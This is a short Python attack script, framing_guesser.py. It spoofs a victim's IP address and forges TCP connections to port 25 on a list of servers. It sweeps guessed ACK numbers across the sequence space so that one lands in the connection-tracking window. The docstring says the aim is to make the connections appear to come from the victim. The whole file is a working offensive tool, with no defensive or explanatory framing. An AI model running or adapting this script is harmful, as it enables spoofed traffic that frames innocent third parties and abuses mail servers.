# SPDX-License-Identifier: GPL-2.0-or-later
"""usage: framing_guesser.py INTERFACE GATEWAY_MAC VICTIM SERVER...

Forges one connection to each server in the victim's name, and guesses at the server's sequence
number until one ACK must lie in the window that connection tracking allows (66,000). Works only
where the victim's kernel sends no RST."""

import json
import random
import sys
import time

from raw_frames import ACK, FIN, SYN, Wire, segment

STEP = 65_000
SYN_ACK_SECONDS = 0.05


def forge(wire, victim, server):
    client, isn = (victim, random.randrange(20000, 32000)), random.getrandbits(32)
    wire.send(segment(client, (server, 25), SYN, isn))
    time.sleep(SYN_ACK_SECONDS)
    for said in range(0, 1 << 32, STEP):
        wire.send(segment(client, (server, 25), ACK, isn + 1, said))
    wire.send(segment(client, (server, 25), ACK | FIN, isn + 1, said))


def main(interface, gateway_mac, victim, *servers):
    wire = Wire(interface, gateway_mac)
    for server in servers:
        forge(wire, victim, server)
    print(json.dumps({"flows": len(servers), "frames": wire.sent}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
